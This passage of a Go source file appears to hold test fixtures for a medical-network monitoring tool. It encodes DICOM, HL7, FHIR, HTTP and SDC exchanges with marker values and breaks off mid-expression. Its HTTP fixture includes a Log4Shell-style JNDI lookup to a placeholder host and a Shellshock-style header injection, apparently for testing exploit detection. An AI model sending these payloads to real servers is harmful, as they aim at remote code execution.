// SPDX-FileCopyrightText: 2026 The Myelin authors
// SPDX-License-Identifier: Apache-2.0

package assess

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"math/big"
	"net"
	"net/url"
	"strings"
	"sync"
	"time"
	"unicode/utf16"

	"github.com/myelin-health/myelin/event"
	"github.com/myelin-health/myelin/internal/testpeer"
	"github.com/myelin-health/myelin/proto"
)

// Numbers of a width and an order, for cat.
type (
	be16 uint16
	be32 uint32
	le16 uint16
	le32 uint32
	le64 uint64
	wide string // UTF-16, least byte first
)

// cat joins what a packet is made of. An int is one byte.
func cat(parts ...any) (b []byte) {
	for _, p := range parts {
		switch p := p.(type) {
		case int:
			b = append(b, byte(p))
		case string:
			b = append(b, p...)
		case []byte:
			b = append(b, p...)
		case be16:
			b = binary.BigEndian.AppendUint16(b, uint16(p))
		case be32:
			b = binary.BigEndian.AppendUint32(b, uint32(p))
		case le16:
			b = binary.LittleEndian.AppendUint16(b, uint16(p))
		case le32:
			b = binary.LittleEndian.AppendUint32(b, uint32(p))
		case le64:
			b = binary.LittleEndian.AppendUint64(b, uint64(p))
		case wide:
			for _, c := range utf16.Encode([]rune(string(p))) {
				b = binary.LittleEndian.AppendUint16(b, c)
			}
		default:
			panic(fmt.Sprintf("%T", p))
		}
	}
	return b
}

func zero(n int) []byte { return make([]byte, n) }

// counted puts a length before content: of two bytes, and of one.
func counted(parts ...any) []byte      { b := cat(parts...); return cat(be16(len(b)), b) }
func shortCounted(parts ...any) []byte { b := cat(parts...); return cat(len(b), b) }

// ber is an element of ASN.1 (X.690).
func ber(tag int, parts ...any) []byte {
	b := cat(parts...)
	if len(b) < 128 {
		return cat(tag, len(b), b)
	}
	return cat(tag, 0x82, be16(len(b)), b)
}

// A conversation is how one protocol is spoken with markers, and what must be
// told of it.
type conversation struct {
	id    proto.ID
	tells []event.Kind
	play  func(*marker)
}

var conversations = []conversation{
	{proto.DICOM, []event.Kind{event.NameSeen, event.LoginSeen, event.PatientDataSeen, event.RecordsMoved, event.RecordsRequested, event.IdentitySeen}, sayDICOM},
	{proto.HL7, []event.Kind{event.PatientDataSeen, event.IdentitySeen, event.ReportSeen, event.CommandSeen, event.CommandAnswered, event.RecordsRequested, event.RecordsMoved}, sayHL7},
	{proto.HTTP, []event.Kind{event.LoginSeen, event.ExploitSeen}, sayHTTP},
	{proto.FHIR, []event.Kind{event.PatientDataSeen, event.IdentitySeen, event.RecordsRequested, event.CommandSeen}, sayFHIR},
	{proto.SDC, []event.Kind{event.PatientDataSeen, event.IdentitySeen, event.CommandSeen, event.CommandAnswered, event.ReportSeen}, saySDC},
	{proto.TLS, []event.Kind{event.TLSSeen, event.CertificateSeen, event.NameSeen}, sayTLS},
	{proto.DNS, []event.Kind{event.NameSeen, event.NameQueried, event.IdentitySeen}, sayDNS},
	{proto.DHCP, []event.Kind{event.NameSeen, event.BindingSeen, event.AddressOffered}, sayDHCP},
	{proto.NTP, []event.Kind{event.ProtocolSeen}, sayNTP},
	{proto.SNMP, []event.Kind{event.LoginSeen, event.NameSeen, event.IdentitySeen}, saySNMP},
	{proto.SSDP, []event.Kind{event.IdentitySeen}, saySSDP},
	{proto.SMB, []event.Kind{event.LoginSeen, event.NameSeen, event.IdentitySeen, event.RemoteExecSeen}, saySMB},
	{proto.DCERPC, []event.Kind{event.RemoteExecSeen}, sayDCERPC},
	{proto.NetBIOS, []event.Kind{event.NameSeen, event.IdentitySeen}, sayNetBIOS},
	{proto.RDP, []event.Kind{event.NameSeen, event.LoginSeen}, sayRDP},
	{proto.VNC, []event.Kind{event.ProtocolSeen, event.LoginSeen}, sayVNC},
	{proto.SSH, []event.Kind{event.ProtocolSeen, event.IdentitySeen}, saySSH},
	{proto.Telnet, []event.Kind{event.LoginSeen}, sayTelnet},
	{proto.FTP, []event.Kind{event.LoginSeen, event.IdentitySeen}, sayFTP},
	{proto.MQTT, []event.Kind{event.LoginSeen, event.PatientDataSeen}, sayMQTT},
	{proto.CoAP, []event.Kind{event.NameSeen}, sayCoAP},
	{proto.Modbus, []event.Kind{event.IdentitySeen}, sayModbus},
	{proto.BACnet, []event.Kind{event.NameSeen, event.IdentitySeen}, sayBACnet},
	{proto.LDAP, []event.Kind{event.LoginSeen}, sayLDAP},
	{proto.Kerberos, []event.Kind{event.LoginSeen, event.NameSeen}, sayKerberos},
	{proto.Syslog, []event.Kind{event.NameSeen}, saySyslog},
	{proto.GATT, []event.Kind{event.IdentitySeen, event.AdvertisingSeen, event.PairingSeen, event.WeakKeySeen, event.AttributeUsed, event.AttributeRefused, event.PatientDataSeen, event.CommandSeen, event.LinkSeen}, sayGATT},
	{proto.Radio, []event.Kind{event.IdentitySeen, event.PatientDataSeen, event.CommandSeen, event.LinkSeen}, sayRadio},
}

// DICOM (PS3.8 section 9.3, PS3.7 section 6.3, PS3.5 section 7.1).

func dicomPDU(typ int, parts ...any) []byte {
	b := cat(parts...)
	return cat(typ, 0, be32(len(b)), b)
}

func dicomItem(typ int, parts ...any) []byte { return cat(typ, 0, counted(parts...)) }

func dicomAssociate(typ int, called, calling string, items ...any) []byte {
	return dicomPDU(typ, be16(1), be16(0), fmt.Sprintf("%-16s%-16s", called, calling), zero(32), dicomItem(0x10, "1.2.840.10008.3.1.1.1"), cat(items...))
}

func dicomPad(v any) []byte {
	b := cat(v)
	if len(b)%2 == 1 {
		b = append(b, 0)
	}
	return b
}

// dicomElement is one data element, explicit VR little endian.
func dicomElement(tag uint32, vr string, v any) []byte {
	b := dicomPad(v)
	head := cat(le16(tag>>16), le16(tag), vr)
	if strings.Contains("OB OD OF OL OV OW SQ SV UC UN UR UT UV ", vr+" ") {
		return cat(head, le16(0), le32(len(b)), b)
	}
	return cat(head, le16(len(b)), b)
}

// dicomCommand is a command set with elements of group 0, in a P-DATA-TF.
func dicomCommand(context int, elements ...any) []byte {
	var b []byte
	for i := 0; i < len(elements); i += 2 {
		v := dicomPad(elements[i+1])
		b = cat(b, le16(0), le16(elements[i].(int)), le32(len(v)), v)
	}
	return dicomData(context, 3, cat(le32(0), le32(4), le32(len(b)), b))
}

func dicomData(context, control int, b []byte) []byte {
	return dicomPDU(4, be32(len(b)+2), context, control, b)
}

func sayDICOM(m *marker) {
	const (
		storage, find, move = "1.2.840.10008.5.1.4.1.1.2", "1.2.840.10008.5.1.4.1.2.2.1", "1.2.840.10008.5.1.4.1.2.2.2"
		explicit            = "1.2.840.10008.1.2.1"
	)
	le := func(n int) []byte { return cat(le16(n)) }
	called, calling := m.mark("called AE title"), m.mark("calling AE title")
	open := func() (request, accept []byte) {
		user := func(parts ...any) []byte { return dicomItem(0x50, dicomItem(0x51, be32(16384)), cat(parts...)) }
		var proposed, accepted []byte
		for i, class := range []string{storage, find, move} {
			proposed = append(proposed, dicomItem(0x20, 2*i+1, 0, 0, 0, dicomItem(0x30, class), dicomItem(0x40, explicit))...)
			accepted = append(accepted, dicomItem(0x21, 2*i+1, 0, 0, 0, dicomItem(0x40, explicit))...)
		}
		return dicomAssociate(1, called, calling, proposed, user(dicomItem(0x52, "1.2.276.0.7230010.3.0.3.6.7"), dicomItem(0x55, m.mark("implementation version name")),
				dicomItem(0x58, 2, 1, counted(m.mark("user")), counted(m.mark("password"))))),
			dicomAssociate(2, called, calling, accepted, user(dicomItem(0x55, m.mark("acceptor's implementation version name")), dicomItem(0x59, counted(m.mark("server response")))))
	}
	var object []byte
	add := func(tag uint32, vr string, v any) { object = append(object, dicomElement(tag, vr, v)...) }
	mark := func(tag uint32, vr string) { add(tag, vr, m.mark(fmt.Sprintf("%08X %s", tag, vr))) }
	mark(0x00080008, "CS")
	mark(0x00080012, "DA")
	mark(0x00080013, "TM")
	add(0x00080016, "UI", storage)
	add(0x00080018, "UI", "1.2.276.0.7230010.3.1.4.1")
	mark(0x0008002A, "DT")
	mark(0x00080050, "SH")
	mark(0x00080054, "AE")
	add(0x00080060, "CS", "CT")
	add(0x00080070, "LO", m.mark("manufacturer"))
	mark(0x00080080, "LO")
	mark(0x00080081, "ST")
	mark(0x00080090, "PN")
	mark(0x00080119, "UC")
	mark(0x00080120, "UR")
	add(0x00081010, "SH", calling) // station name
	mark(0x00081030, "LO")
	mark(0x00081070, "PN")
	add(0x00081090, "LO", m.mark("model"))
	for _, vr := range []string{"AT", "FD", "OD", "OF", "OL", "OV", "SL", "SS", "SV", "UL", "UN", "US", "UV", "FL"} {
		mark(0x00090010+uint32(len(object)), vr)
	}
	item := cat(dicomElement(0x00100010, "PN", m.mark("name in a sequence")), dicomElement(0x00100020, "LO", m.mark("record number in a sequence")))
	for _, e := range []struct {
		tag uint32
		vr  string
	}{
		{0x00100010, "PN"},
		{0x00100020, "LO"},
		{0x00100021, "LO"},
		{0x00100030, "DA"},
		{0x00100040, "CS"},
		{0x00101000, "LO"},
		{0x00101002, ""},
		{0x00101010, "AS"},
		{0x00101030, "DS"},
		{0x00101040, "LO"},
		{0x00102154, "SH"},
		{0x001021B0, "LT"},
		{0x00104000, "LT"},
	} {
		if e.vr == "" {
			add(e.tag, "SQ", cat(le16(0xfffe), le16(0xe000), le32(len(item)), item))
			continue
		}
		mark(e.tag, e.vr)
	}
	add(0x00181000, "LO", m.mark("serial number"))
	udi := dicomElement(0x00181009, "UT", "(01)00844588003288(21)"+m.mark("production identifier"))
	add(0x0018100A, "SQ", cat(le16(0xfffe), le16(0xe000), le32(len(udi)), udi))
	add(0x00181020, "LO", m.mark("software version"))
	mark(0x00181151, "IS")
	mark(0x0020000D, "UI")
	mark(0x00200010, "SH")
	mark(0x00321060, "LO")
	mark(0x00380010, "LO")
	mark(0x0040A160, "UT")
	mark(0x00420011, "OB")
	mark(0x7FE00010, "OW")
	store := func(id int, more ...any) []byte {
		return dicomCommand(1, append([]any{0x0002, storage, 0x0100, le(1), 0x0110, le(id), 0x0700, le(0), 0x0800, le(1), 0x1000, "1.2.276.0.7230010.3.1.4.1"}, more...)...)
	}
	stored := func(id int) []byte {
		return dicomCommand(1, 0x0002, storage, 0x0100, le(0x8001), 0x0120, le(id), 0x0800, le(0x101), 0x0900, le(0), 0x0902, m.mark("error comment"), 0x1000, "1.2.276.0.7230010.3.1.4.1")
	}
	request, accept := open()
	m.tcp(104, says(request), answers(accept), says(store(1)), says(dicomData(1, 2, object)), answers(stored(1)), says(dicomPDU(5, be32(0))), answers(dicomPDU(6, be32(0))))

	keys := cat(dicomElement(0x00080052, "CS", "STUDY"), dicomElement(0x00100010, "PN", m.mark("name asked for")+"*"), dicomElement(0x00100020, "LO", m.mark("record number asked for")))
	match := cat(dicomElement(0x00080052, "CS", "STUDY"), dicomElement(0x00080060, "CS", m.mark("modality")), dicomElement(0x00081010, "SH", m.mark("station found")),
		dicomElement(0x00100010, "PN", m.mark("name found")), dicomElement(0x00100020, "LO", m.mark("record number found")))
	m.tcp(104, says(request), answers(accept),
		says(dicomCommand(3, 0x0002, find, 0x0100, le(0x20), 0x0110, le(2), 0x0700, le(0), 0x0800, le(1))), says(dicomData(3, 2, keys)),
		answers(dicomCommand(3, 0x0002, find, 0x0100, le(0x8020), 0x0120, le(2), 0x0800, le(1), 0x0900, le(0xff00))), answers(dicomData(3, 2, match)),
		answers(dicomCommand(3, 0x0002, find, 0x0100, le(0x8020), 0x0120, le(2), 0x0800, le(0x101), 0x0900, le(0))),
		says(dicomCommand(5, 0x0002, move, 0x0100, le(0x21), 0x0110, le(3), 0x0600, m.mark("move destination"), 0x0700, le(0), 0x0800, le(1))), says(dicomData(5, 2, keys)),
		answers(dicomCommand(5, 0x0002, move, 0x0100, le(0x8021), 0x0120, le(3), 0x0800, le(0x101), 0x0900, le(0), 0x1020, le(0), 0x1021, le(1))),
		says(store(4, 0x1030, m.mark("move originator"), 0x1031, le(3))), says(dicomData(1, 2, object)), answers(stored(4)),
		says(dicomPDU(5, be32(0))), answers(dicomPDU(6, be32(0))))
}

// HL7 v2, in MLLP.

// hl7Segment writes a segment whose fields up to n hold markers, in components
// and sub-components, but for those given, by number.
func (m *marker) hl7Segment(id string, n int, given map[int]string) string {
	b := id
	for f := 1; f <= n; f++ {
		v, ok := given[f]
		if !ok {
			mark := func(place string) string { return m.mark(fmt.Sprintf("%s-%d%s", id, f, place)) }
			v = mark(".1") + "^" + mark(".2") + "&" + mark(".2.2") + "^" + mark(".3") + "~" + mark("[2].1")
		}
		b += "|" + v
	}
	return b + "\r"
}

// hl7Message writes one of this type and event, with what follows MSH. more are
// its fields that are not markers.
func (m *marker) hl7Message(kind string, more map[int]string, segments ...string) []byte {
	given := map[int]string{7: "20260303070000", 9: kind, 11: "P", 12: "2.6", 13: "", 14: "", 15: "AL", 16: "NE", 18: ""}
	for f, v := range more {
		given[f] = v
	}
	// MSH-1 is the delimiter itself, MSH-2 the others.
	msh := "MSH|^~\\&" + strings.TrimPrefix(m.hl7Segment("MSH", 21, merged(given, map[int]string{1: "", 2: ""})), "MSH||")
	return []byte(msh + strings.Join(segments, ""))
}

func merged[K comparable, V any](maps ...map[K]V) map[K]V {
	all := map[K]V{}
	for _, x := range maps {
		for k, v := range x {
			all[k] = v
		}
	}
	return all
}

func hl7Block(b []byte) []byte { return cat(0x0b, b, 0x1c, 0x0d) }

func (m *marker) hl7Admission() []byte {
	return m.hl7Message("ADT^A01^ADT_A01", nil, m.hl7Segment("SFT", 6, map[int]string{1: m.mark("SFT-1"), 2: m.mark("SFT-2"), 3: m.mark("SFT-3")}),
		m.hl7Segment("EVN", 7, nil), m.hl7Segment("PID", 39, nil), m.hl7Segment("PD1", 21, nil), m.hl7Segment("NK1", 39, nil), m.hl7Segment("PV1", 52, nil), m.hl7Segment("PV2", 49, nil),
		m.hl7Segment("ROL", 12, nil), m.hl7Segment("DB1", 8, nil), m.hl7Segment("AL1", 6, nil), m.hl7Segment("DG1", 26, nil), m.hl7Segment("DRG", 33, nil), m.hl7Segment("PR1", 20, nil),
		m.hl7Segment("GT1", 57, nil), m.hl7Segment("IN1", 53, nil), m.hl7Segment("IN2", 72, nil), m.hl7Segment("ACC", 11, nil), m.hl7Segment("ZAD", 9, nil))
}

func sayHL7(m *marker) {
	const (
		pcd01 = "IHE_PCD_001^IHE PCD^1.3.6.1.4.1.19376.1.6.1.1.1^ISO"
		pcd03 = "IHE_PCD_003^IHE PCD^1.3.6.1.4.1.19376.1.6.1.3.1^ISO"
		pump  = "ACDE48FFFE00AA01"
	)
	patient := func() string { return m.hl7Segment("PID", 39, nil) + m.hl7Segment("PV1", 52, nil) }
	observed := func(n int, given map[int]string) string {
		return m.hl7Segment("OBX", 25, merged(map[int]string{1: fmt.Sprint(n), 11: "F"}, given))
	}
	device := m.mark("equipment instance") + "^^" + pump + "^EUI-64"
	acknowledge := func(kind, id string) []byte {
		return m.hl7Message("ACK^"+kind+"^ACK", nil, m.hl7Segment("MSA", 8, map[int]string{1: "AA", 2: id}), m.hl7Segment("ERR", 12, nil))
	}
	id := func(kind string) map[int]string { return map[int]string{10: m.mark("MSH-10 of " + kind)} }
	whole := func(kind string, profile string, segments ...string) []byte {
		given := id(kind)
		if profile != "" {
			given[21] = profile
		}
		return hl7Block(m.hl7Message(kind, given, segments...))
	}
	results := whole("ORU^R01^ORU_R01", m.mark("profile"), patient(), m.hl7Segment("ORC", 30, nil), m.hl7Segment("OBR", 49, nil), m.hl7Segment("NTE", 4, nil),
		observed(1, map[int]string{2: "ST"}), observed(2, map[int]string{2: "NM"}), observed(3, map[int]string{2: "ED"}), m.hl7Segment("SPM", 29, nil), m.hl7Segment("ZXX", 9, nil))
	report := whole("ORU^R01^ORU_R40", pcd01, patient(), m.hl7Segment("OBR", 49, nil),
		observed(1, map[int]string{2: "", 3: "69985^MDC_DEV_PUMP_INFUS_MDS^MDC", 4: "1.0.0.0", 5: "", 6: "", 11: "X", 18: device}),
		observed(2, map[int]string{2: "ST", 3: "531970^MDC_ID_MODEL_MANUFACTURER^MDC", 4: "1.0.0.1", 5: m.mark("manufacturer")}),
		observed(3, map[int]string{2: "ST", 3: "531969^MDC_ID_MODEL_NUMBER^MDC", 4: "1.0.0.2", 5: m.mark("model")}),
		observed(4, map[int]string{2: "ST", 3: "531972^MDC_ID_PROD_SPEC_SERIAL^MDC", 4: "1.0.0.3", 5: m.mark("serial number")}),
		observed(5, map[int]string{2: "ST", 3: "531975^MDC_ID_PROD_SPEC_SW^MDC", 4: "1.0.0.4", 5: m.mark("version")}),
		observed(6, map[int]string{2: "", 3: "69986^MDC_DEV_PUMP_INFUS_VMD^MDC", 4: "1.1.0.0", 5: "", 6: "", 11: "X", 18: device}),
		observed(7, map[int]string{2: "NM", 3: "157784^MDC_FLOW_FLUID_PUMP^MDC", 4: "1.1.2.6", 5: "10.5", 6: "265266^MDC_DIM_MILLI_L_PER_HR^MDC"}))
	// What a patient wears: an insulin pump of the personal health devices.
	worn := whole("ORU^R01^ORU_R01", pcd01, patient(), m.hl7Segment("OBR", 49, nil),
		observed(1, map[int]string{
			2: "", 3: "528403^MDC_DEV_SPEC_PROFILE_INSULIN_PUMP^MDC", 4: "1.0.0.0", 5: "", 6: "", 11: "X",
			18: m.mark("worn equipment instance") + "^^" + m.mark("worn EUI-64") + "^EUI-64",
		}),
		observed(2, map[int]string{2: "ST", 3: "531972^MDC_ID_PROD_SPEC_SERIAL^MDC", 4: "1.0.0.1", 5: m.mark("worn serial number")}))
	order := whole("RGV^O15^RGV_O15", pcd03, patient(), m.hl7Segment("ORC", 30, map[int]string{1: "XO"}),
		m.hl7Segment("RXG", 28, map[int]string{1: "1", 5: "", 6: "", 7: "", 15: "50", 16: "265266^MDC_DIM_MILLI_L_PER_HR^MDC^mL/h^mL/h^UCUM", 17: "", 18: "", 23: "", 24: ""}), m.hl7Segment("RXR", 6, nil),
		observed(1, map[int]string{2: "", 3: "69986^MDC_DEV_PUMP_INFUS_VMD^MDC", 4: "", 5: "", 6: "", 11: "X", 18: device}))
	query := whole("QBP^Q22^QBP_Q21", m.mark("profile"), m.hl7Segment("QPD", 9, nil), m.hl7Segment("RCP", 7, nil))
	found := whole("RSP^K22^RSP_K21", m.mark("profile"), m.hl7Segment("MSA", 8, map[int]string{1: "AA", 2: m.mark("MSH-10 of QBP^Q22^QBP_Q21")}), m.hl7Segment("QAK", 6, nil), m.hl7Segment("QPD", 9, nil), patient())
	old := whole("QRY^A19", m.mark("profile"), m.hl7Segment("QRD", 12, nil), m.hl7Segment("QRF", 10, nil))
	unknown := whole(m.mark("MSH-9.1")+"^"+m.mark("MSH-9.2")+"^"+m.mark("MSH-9.3"), m.mark("profile"), m.hl7Segment("ZZZ", 9, nil))
	ack := func(kind, trigger string) testpeer.Piece {
		return answers(hl7Block(acknowledge(trigger, m.mark("MSH-10 of "+kind))))
	}
	m.tcp(2575, says(hl7Block(m.hl7Admission())), says(results), ack("ORU^R01^ORU_R01", "R01"), says(report), ack("ORU^R01^ORU_R40", "R40"), says(worn), ack("ORU^R01^ORU_R01", "R01"),
		says(order), ack("RGV^O15^RGV_O15", "O15"), says(query), answers(found), says(old), ack("QRY^A19", "A19"), says(unknown), ack("none", m.mark("trigger of the answer")))
}

// HTTP.

// request and response are a message with a head of markers, and a body.
func (m *marker) request(start, kind, body string, heads ...string) []byte {
	return cat(start, " HTTP/1.1\r\nHost: ", m.mark("Host"), "\r\nContent-Type: ", kind, "\r\nContent-Length: ", fmt.Sprint(len(body)), "\r\n", strings.Join(heads, ""), "\r\n", body)
}

func (m *marker) response(kind, body string, heads ...string) []byte {
	return cat("HTTP/1.1 200 ", m.mark("reason phrase"), "\r\nContent-Type: ", kind, "\r\nContent-Length: ", fmt.Sprint(len(body)), "\r\n", strings.Join(heads, ""), "\r\n", body)
}

func sayHTTP(m *marker) {
	head := func(name, before string) string { return name + ": " + before + m.mark(name) + "\r\n" }
	heads := []string{
		head("User-Agent", "Mozilla/5.0 (Windows NT 6.1) "), head("Cookie", "session="), head("Referer", "http://pacs/"), head("X-Forwarded-User", ""), head("From", ""),
		head("Accept", "text/"), head("Origin", "http://"), head("X-"+m.mark("field name"), ""), head("If-Match", ""),
	}
	basic := "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(m.mark("user")+":"+m.mark("password"))) + "\r\n"
	target := "/" + m.mark("path") + "?" + m.mark("query key") + "=" + m.mark("query value") + "#" + m.mark("fragment")
	server := []string{head("Server", "Microsoft-IIS/7.5 "), head("Set-Cookie", "id="), head("Location", "/"), head("WWW-Authenticate", "Basic realm="), head("X-Powered-By", "")}
	form := "username=" + m.mark("form user") + "&password=" + m.mark("form password") + "&" + m.mark("form key") + "=" + url.QueryEscape(m.mark("form value"))
	m.tcp(80, says(m.request("GET "+target, "text/plain", m.mark("body"), append(heads, basic)...)), answers(m.response("text/html", "<title>"+m.mark("page")+"</title>", server...)),
		says(m.request("POST /login", "application/x-www-form-urlencoded", form)), answers(m.response("application/json", `{"name":"`+m.mark("JSON")+`"}`)),
		says(m.request("POST /"+m.mark("upload"), "multipart/form-data; boundary="+m.mark("boundary"), "--"+m.mark("boundary")+"\r\nContent-Disposition: form-data; name=\""+m.mark("part")+"\"; filename=\""+m.mark("file name")+"\"\r\n\r\n"+m.mark("file")+"\r\n--"+m.mark("boundary")+"--\r\n")),
		answers(m.response(m.mark("media type")+"/x", m.mark("content"))),
		says(m.request("GET /?"+m.mark("exploit query")+"=${jndi:ldap://"+m.mark("exploit host")+"/"+m.mark("exploit path")+"}", "text/plain", "")), answers(m.response("text/plain", "")),
		says(m.request("GET /cgi-bin/"+m.mark("script"), "text/plain", "", "User-Agent: () { :;}; /bin/"+m.mark("shell command")+"\r\n")), answers(m.response("text/plain", "")),
		says(m.request(m.mark("method")+" /", "text/plain", "")), answers(m.response("text/plain", "")),
		says(cat("POST / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ", m.mark("token"), "\r\nTransfer-Encoding: chunked\r\n\r\n8;", m.mark("chunk extension"), "\r\n", m.mark("chunk"), "\r\n0\r\n", m.mark("trailer name"), ": ", m.mark("trailer"), "\r\n\r\n")),
		answers(m.response("text/plain", "")))
}

func sayFHIR(m *marker) {
	const kind = "application/fhir+json"
	mark := m.mark
	q := func(key, field string) string { return `"` + key + `":"` + mark(field) + `"` }
	patient := `{"resourceType":"Patient",` + q("id", "id") + `,"text":{"div":"<div>` + mark("narrative") + `</div>"},"identifier":[{` + q("system", "system") + `,` + q("value", "identifier") + `}],"name":[{` + q("family", "family") +
		`,"given":["` + mark("given") + `"],` + q("text", "name") + `}],` + q("birthDate", "birth date") + `,"gender":"female","telecom":[{` + q("value", "telecom") + `}],"address":[{"line":["` + mark("line") + `"],` + q("city", "city") +
		`}],"contact":[{"name":{` + q("family", "contact") + `}}],"` + mark("unknown key") + `":"` + mark("unknown value") + `"}`
	stationary := `{"resourceType":"Device","identifier":[{` + q("system", "device system") + `,` + q("value", "device identifier") + `}],` + q("manufacturer", "manufacturer") + `,` + q("serialNumber", "serial number") + `,` + q("modelNumber", "model") +
		`,"version":[{` + q("value", "version") + `}],"deviceName":[{` + q("name", "device name") + `,"type":"user-friendly-name"}],"url":"http://` + m.server + `/` + mark("device URL") + `","note":[{` + q("text", "device note") + `}],"location":{` + q("display", "device location") + `}}`
	worn := `{"resourceType":"Device",` + q("manufacturer", "manufacturer of what is worn") + `,` + q("serialNumber", "serial number of what is worn") + `,"patient":{"reference":"Patient/` + mark("patient of the device") + `"},"udiCarrier":[{"carrierHRF":"(01)00844588003288(21)` +
		mark("production identifier") + `"}],"url":"http://` + m.client + `/"}`
	observation := `{"resourceType":"Observation","status":"final","code":{` + q("text", "code") + `},"subject":{"reference":"Patient/` + mark("subject") + `",` + q("display", "subject's name") + `},"valueString":"` + mark("value") + `","performer":[{` + q("display", "performer") + `}]}`
	order := `{"resourceType":"MedicationRequest","status":"active","intent":"order","medicationCodeableConcept":{"coding":[{` + q("code", "drug code") + `,` + q("display", "drug") + `}]},"subject":{"reference":"Patient/` + mark("subject of the order") + `"},"requester":{` + q("display", "requester") +
		`},"dosageInstruction":[{` + q("text", "dosage") + `,"doseAndRate":[{"rateQuantity":{"value":50,"unit":"mL/h","system":"http://unitsofmeasure.org","code":"mL/h"}}]}]}`
	bundle := func(resources ...string) string {
		entries := make([]string, len(resources))
		for i, r := range resources {
			entries[i] = `{` + q("fullUrl", "fullUrl") + `,"resource":` + r + `}`
		}
		return `{"resourceType":"Bundle","type":"searchset","link":[{"relation":"self",` + q("url", "link") + `}],"entry":[` + strings.Join(entries, ",") + `]}`
	}
	xml := `<Patient xmlns="http://hl7.org/fhir"><id value="` + mark("XML id") + `"/><identifier><value value="` + mark("XML identifier") + `"/></identifier><name><family value="` + mark("XML family") + `"/></name><birthDate value="` + mark("XML birth date") + `"/><` + mark("XML element") + ` value="` + mark("XML value") + `"/></Patient>`
	outcome := `{"resourceType":"OperationOutcome","issue":[{"severity":"error","code":"invalid",` + q("diagnostics", "diagnostics") + `}]}`
	m.tcp(8080, says(m.request("GET /fhir/Patient/"+mark("read id"), kind, "")), answers(m.response(kind, patient)),
		says(m.request("GET /"+mark("base")+"/Patient?name="+mark("search name")+"&"+mark("search key")+"=1", kind, "")), answers(m.response(kind, bundle(patient, observation, stationary, worn))),
		says(m.request("GET /fhir/Patient/$"+mark("operation"), kind, "")), answers(m.response(kind, outcome)),
		says(m.request("GET /fhir/"+mark("resource type")+"/1", kind, "", "Accept: "+kind+"\r\n")), answers(m.response(kind, `{"resourceType":"`+mark("resource type in JSON")+`",`+q("id", "its id")+`}`)),
		says(m.request("POST /fhir/Observation", kind, observation)), answers(m.response(kind, outcome)),
		says(m.request("POST /fhir/MedicationRequest", kind, order, "Authorization: Bearer "+mark("token")+"\r\n")), answers(m.response(kind, order)),
		says(m.request("PUT /fhir/Patient/"+mark("put id"), "application/fhir+xml", xml)), answers(m.response("application/fhir+xml", xml)))
}

// IEEE 11073 SDC.

func soap(operation, body string, heads ...string) string {
	return `<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://www.w3.org/2005/08/addressing" xmlns:d="http://docs.oasis-open.org/ws-dd/ns/discovery/2009/01" ` +
		`xmlns:p="http://standards.ieee.org/downloads/11073/11073-20702-2016" xmlns:w="http://docs.oasis-open.org/ws-dd/ns/dpws/2009/01" xmlns:mex="http://schemas.xmlsoap.org/ws/2004/09/mex" ` +
		`xmlns:msg="http://standards.ieee.org/downloads/11073/11073-10207-2017/message" xmlns:pm="http://standards.ieee.org/downloads/11073/11073-10207-2017/participant" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">` +
		`<s:Header><a:Action>http://docs.oasis-open.org/ws-dd/ns/discovery/2009/01/` + operation + `</a:Action>` + strings.Join(heads, "") + `</s:Header><s:Body>` + body + `</s:Body></s:Envelope>`
}

func saySDC(m *marker) {
	const kind = "application/soap+xml; charset=utf-8"
	mark := m.mark
	heads := []string{"<a:MessageID>" + mark("message id") + "</a:MessageID>", "<a:To>http://" + mark("To") + "/</a:To>", "<a:From><a:Address>" + mark("From") + "</a:Address></a:From>", "<a:RelatesTo>" + mark("RelatesTo") + "</a:RelatesTo>"}
	attr := func(name, field string) string { return " " + name + `="` + mark(field) + `"` }
	in := func(name, field string) string { return "<" + name + ">" + mark(field) + "</" + name + ">" }
	target := `<a:EndpointReference>` + in("a:Address", "endpoint") + `</a:EndpointReference><d:Types>w:Device p:MedicalDevice</d:Types><d:Scopes>sdc.ctxt.loc:/x/` + mark("location") + `?bed=` + mark("bed") +
		` sdc.cdc.type:/urn%3Aoid%3A1.2.840.10004.1.1.1.0.0.1//69965 ` + mark("scope") + `</d:Scopes>` + in("d:XAddrs", "XAddrs")
	m.udp(3702, says([]byte(soap("Probe", `<d:Probe><d:Types>p:MedicalDevice</d:Types>`+in("d:Scopes", "scope asked for")+`</d:Probe>`, heads...))),
		answers([]byte(soap("ProbeMatches", `<d:ProbeMatches><d:ProbeMatch>`+target+`</d:ProbeMatch></d:ProbeMatches>`, heads...))))

	patient := `xsi:type="pm:PatientContextState"` + attr("DescriptorHandle", "patient handle") + attr("Handle", "patient state") + ` ContextAssociation="Assoc"><pm:Validator` + attr("Root", "validator root") + attr("Extension", "validator") + `/><pm:Identification` +
		attr("Root", "identification root") + attr("Extension", "identification") + `/><pm:CoreData>` + in("pm:Givenname", "given") + in("pm:Middlename", "middle") + in("pm:Familyname", "family") + in("pm:Birthname", "birth name") + `<pm:Sex>F</pm:Sex>` + in("pm:DateOfBirth", "birth date") +
		`<pm:Race Code="1">` + in("pm:ConceptDescription", "race") + `</pm:Race></pm:CoreData>`
	described := `<msg:GetMdibResponse` + attr("SequenceId", "sequence") + `><msg:Mdib><pm:MdDescription><pm:Mds` + attr("Handle", "device handle") + `><pm:Type Code="69965">` + in("pm:ConceptDescription", "concept") + `</pm:Type><pm:MetaData>` +
		`<pm:Udi>` + in("pm:DeviceIdentifier", "UDI device identifier") + in("pm:HumanReadableForm", "UDI human readable") + `<pm:Issuer Root="x"/></pm:Udi>` + in("pm:LotNumber", "lot") + in("pm:Manufacturer", "manufacturer") + in("pm:ModelName", "model") + in("pm:ModelNumber", "model number") + in("pm:SerialNumber", "serial number") + `</pm:MetaData>` +
		`<pm:Sco Handle="sco"><pm:Operation` + attr("Handle", "operation handle") + attr("OperationTarget", "operation target") + `/></pm:Sco><pm:SystemContext Handle="sc"><pm:PatientContext` + attr("Handle", "patient handle") + `/></pm:SystemContext>` +
